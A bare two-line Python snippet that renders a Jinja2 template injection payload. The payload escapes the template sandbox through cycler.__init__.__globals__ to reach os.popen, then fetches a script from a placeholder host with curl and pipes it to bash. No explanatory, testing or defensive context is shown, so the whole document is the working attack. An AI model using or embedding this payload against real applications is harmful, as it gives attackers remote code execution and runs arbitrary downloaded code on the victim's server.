from jinja2 import Template
Template("{{ cycler.__init__.__globals__.os.popen('curl -s https://cdn-x7.invalid/a | bash').read() }}").render()
